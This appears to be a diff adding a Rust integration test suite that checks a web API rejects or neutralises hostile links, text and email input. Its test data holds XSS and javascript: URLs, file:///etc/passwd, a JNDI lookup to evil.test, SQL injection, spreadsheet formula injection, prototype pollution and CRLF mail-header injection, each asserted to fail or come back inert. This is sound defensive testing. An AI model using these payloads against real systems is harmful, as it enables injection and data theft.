@@ -1,0 +1,312 @@
+//! Links and texts that want to be more than links and texts.
+
+use crate::support::{
+    TestServer, model,
+    people::{self, PASSWORD, address, mailed_token},
+};
+use codegen::model::Ty;
+use serde_json::{Value, json};
+use sqlx::AssertSqlSafe;
+
+const BAD_LINKS: [&str; 27] = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    " javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "ftp://example.org/x",
+    "blob:https://example.org/x",
+    "//example.org/x",
+    "/x",
+    "example.org",
+    "https:example.org",
+    "https:/example.org",
+    "https:///example.org",
+    "https:\\\\example.org",
+    "HTTPS://example.org",
+    "hTtPs://example.org",
+    "ht\ttps://example.org",
+    "https://user@example.org",
+    "https://user:password@example.org",
+    "https://@example.org",
+    "https://example.org@evil.test",
+    "https://example.org/<script>",
+    "https://example.org/\u{0}",
+    "https://example.org/a b",
+];
+
+/// A person who may change one row of each entity that has links.
+#[tokio::test]
+async fn abuse_26_links_lead_to_the_web_and_nowhere_else() {
+    let server = TestServer::demo().await;
+    let mut conn = server.superuser().await;
+    let paula = server.sign_in(server::seed::demo::PEOPLE[0].id).await;
+    let object = model()
+        .objects
+        .iter()
+        .position(|object| object.name == "social_links")
+        .expect("links");
+    let mut tried = 0;
+    for entity in &model().entities {
+        let Some(field) = entity
+            .fields
+            .iter()
+            .find(|field| field.ty == Ty::Object { object })
+        else {
+            continue;
+        };
+        let path = crate::support::resources()[entity.name.as_str()].path;
+        let text = format!(
+            "select id::text from app.{} where status = 'active' order by id limit 1",
+            entity.plural
+        );
+        let id: String = sqlx::query_scalar(AssertSqlSafe(text))
+            .fetch_one(&mut conn)
+            .await
+            .expect("a row");
+        let path = format!("/{path}/{id}");
+        let links = |links: Value| json!({ &field.name: links });
+        let good =
+            json!({"website": "https://example.org/?q=javascript:", "x": "https://x.com/culture"});
+        let kept = paula
+            .client
+            .patch(&path, "*", links(good.clone()))
+            .await
+            .expect(200);
+        assert_eq!(kept.json[&field.name]["website"], good["website"]);
+        for bad in BAD_LINKS {
+            let sent = paula
+                .client
+                .patch(&path, "*", links(json!({ "website": bad })))
+                .await;
+            assert_eq!(sent.status, 422, "{bad:?} was taken: {}", sent.text);
+            // Past the API the database says the same.
+            if bad.contains('\0') {
+                continue;
+            }
+            let text = format!(
+                "update app.{} set {} = jsonb_build_object('website', $2::text) where id = $1::uuid",
+                entity.plural, field.name
+            );
+            let error = sqlx::query(AssertSqlSafe(text))
+                .bind(&id)
+                .bind(bad)
+                .execute(&mut conn)
+                .await
+                .err();
+            let code = error
+                .as_ref()
+                .and_then(|e| e.as_database_error())
+                .and_then(|e| e.code());
+            assert_eq!(
+                code.as_deref(),
+                Some("23514"),
+                "{bad:?} in {}: {error:?}",
+                entity.plural
+            );
+            tried += 1;
+        }
+        for bad in [
+            json!({"myspace": "https://example.org"}),
+            json!({"website": {"href": "https://example.org"}}),
+            json!({"website": ["https://example.org"]}),
+            json!({"website": format!("https://example.org/{}", "a".repeat(2000))}),
+            json!({"__proto__": {"admin": true}}),
+            json!([]),
+        ] {
+            let answer = paula.client.patch(&path, "*", links(bad.clone())).await;
+            assert_eq!(answer.status, 422, "{bad}: {}", answer.text);
+        }
+        let shown = paula.client.get(&path).await.expect(200);
+        assert_eq!(
+            shown.json[&field.name]["website"], good["website"],
+            "unchanged"
+        );
+    }
+    assert!(tried > 100, "{tried}");
+}
+
+#[tokio::test]
+async fn abuse_26_every_field_that_is_a_link_is_held_to_it() {
+    let server = TestServer::demo().await;
+    let mut conn = server.superuser().await;
+    let paula = server.sign_in(server::seed::demo::PEOPLE[0].id).await;
+    let mut fields = 0;
+    for entity in model().entities.iter().filter(|entity| entity.writable()) {
+        let resource = crate::support::resources()[entity.name.as_str()];
+        if resource.update.is_none() {
+            continue;
+        }
+        let text = format!(
+            "select id::text from app.{} order by id limit 1",
+            entity.plural
+        );
+        let id: Option<String> = sqlx::query_scalar(AssertSqlSafe(text))
+            .fetch_optional(&mut conn)
+            .await
+            .expect("looked");
+        let path = format!(
+            "/{}/{}",
+            resource.path,
+            id.unwrap_or_else(|| uuid::Uuid::now_v7().to_string())
+        );
+        for field in entity
+            .fields
+            .iter()
+            .filter(|field| field.ty == Ty::Url && !field.system && !field.fixed)
+        {
+            for bad in BAD_LINKS {
+                let answer = paula
+                    .client
+                    .patch(&path, "*", json!({ &field.name: bad }))
+                    .await;
+                assert!(
+                    answer.status == 422 && answer.pointers() == [format!("/{}", field.name)],
+                    "{path} {}: {bad:?}: {}",
+                    field.name,
+                    answer.text
+                );
+            }
+            fields += 1;
+        }
+    }
+    assert!(fields >= 8, "{fields}");
+}
+
+#[tokio::test]
+async fn abuse_27_texts_are_texts_wherever_they_come_out() {
+    let server = TestServer::start().await;
+    let ana = server.member("ana").await;
+    for (name, bio) in [
+        ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
+        ("\u{202e}nimda\u{202c}", "</script><!--"),
+        (
+            "Robert'); drop table app.users;--",
+            "${jndi:ldap://evil.test/a} {{7*7}} %s%n",
+        ),
+        ("=cmd|' /C calc'!A0", "+1-1@SUM(A1)"),
+        ("\u{feff}Zürich 🎭", "line\nline\ttab\r\n"),
+    ] {
+        let body = json!({"display_name": name, "bio": bio});
+        ana.client.patch("/me", "*", body).await.expect(200);
+        let path = format!("/users/{}", ana.id);
+        let shown = server.client.get(&path).await.expect(200);
+        assert_eq!(
+            (&shown.json["display_name"], &shown.json["bio"]),
+            (&json!(name), &json!(bio))
+        );
+        let error = server
+            .client
+            .get("/users?handle.x=%3Cscript%3E")
+            .await
+            .expect(422);
+        let found = server
+            .client
+            .get(&format!("/users?handle={}", "ana"))
+            .await
+            .expect(200);
+        assert_eq!(found.json["data"][0]["display_name"], json!(name));
+        for (answer, media) in [
+            (&shown, "application/json"),
+            (&found, "application/json"),
+            (&error, "application/problem+json"),
+        ] {
+            assert_eq!(answer.header("content-type"), Some(media));
+            assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
+            let policy = answer.header("content-security-policy").unwrap_or_default();
+            assert!(policy.contains("default-src 'none'"), "{policy}");
+        }
+    }
+    for control in ['\u{0}', '\u{7}', '\u{1b}', '\u{7f}', '\u{85}', '\u{9b}'] {
+        let body = json!({"display_name": format!("Ana{control}[31m")});
+        let answer = ana.client.patch("/me", "*", body).await.expect(422);
+        assert_eq!(answer.pointers(), ["/display_name"], "{control:?}");
+    }
+}
+
+/// There is nothing but JSON: whoever adds another form of answer has to think of what opens it.
+#[tokio::test]
+async fn abuse_27_answers_are_json_and_nothing_else() {
+    let document = crate::support::document();
+    let mut media = std::collections::BTreeSet::new();
+    let mut collect = |responses: &Value| {
+        for response in responses
+            .as_object()
+            .into_iter()
+            .flat_map(|all| all.values())
+        {
+            media.extend(
+                response["content"]
+                    .as_object()
+                    .into_iter()
+                    .flat_map(|all| all.keys().cloned()),
+            );
+        }
+    };
+    collect(&document["components"]["responses"]);
+    for item in document["paths"].as_object().expect("paths").values() {
+        for operation in item.as_object().expect("operations").values() {
+            collect(&operation["responses"]);
+        }
+    }
+    assert_eq!(
+        media.into_iter().collect::<Vec<_>>(),
+        ["application/json", "application/problem+json"]
+    );
+}
+
+#[tokio::test]
+async fn abuse_27_a_name_cannot_add_headers_or_lines_to_a_mail() {
+    let server = TestServer::start().await;
+    let name = "Ana\r\nBcc: victim@example.org\r\n\r\nClick https://evil.test";
+    let body = json!({"email": address("ana"), "password": PASSWORD, "handle": "ana", "display_name": name});
+    server.client.post("/auth/sign-up", body).await.expect(202);
+    mailed_token(&server, &address("ana"), 0).await;
+    let text = server.mailer.last_to(&address("ana")).expect("a mail");
+    assert!(
+        !text
+            .lines()
+            .any(|line| line.starts_with("Bcc:") || line.starts_with("Click")),
+        "{text}"
+    );
+    for email in [
+        "ana@example.org\r\nBcc: x@example.org",
+        "ana@example.org, x@example.org",
+        "<ana@example.org>",
+        "ana@example.org\0",
+    ] {
+        let body = json!({ "email": email });
+        server
+            .client
+            .post("/auth/forgot-password", body)
+            .await
+            .expect(422);
+    }
+    people::sign_up(&server, "ben").await;
+    let ben = people::sign_in(&server.client, "ben", PASSWORD)
+        .await
+        .expect(200);
+    let ben = server
+        .client
+        .with_token(ben.json["access_token"].as_str().expect("a token"));
+    ben.patch("/me", "*", json!({"display_name": name}))
+        .await
+        .expect(200);
+    let before = server.mailer.count();
+    server
+        .client
+        .post("/auth/forgot-password", json!({"email": address("ben")}))
+        .await
+        .expect(202);
+    mailed_token(&server, &address("ben"), before).await;
+    let text = server.mailer.last_to(&address("ben")).expect("a mail");
+    assert!(
+        !text
+            .lines()
+            .any(|line| line.starts_with("Bcc:") || line.starts_with("Click")),
+        "{text}"
+    );
+}
